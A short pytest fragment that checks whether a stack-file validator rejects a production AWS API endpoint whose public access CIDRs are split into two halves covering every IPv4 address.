    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _prod_aws_stack(tmp_path, aws__api_endpoint={"public_access_cidrs": ["0.0.0.0/1", "128.0.0.0/1"]})
    monkeypatch.chdir(ROOT)
    code = main(["check", "--stack-file", str(path), "--skip-checkov", "--out", str(tmp_path / "plan")])
    captured = capsys.readouterr()
    assert code == EXIT_BAD_INPUT, captured.out + captured.err
    assert "aws.api_endpoint.public_access_cidrs" in captured.out + captured.err
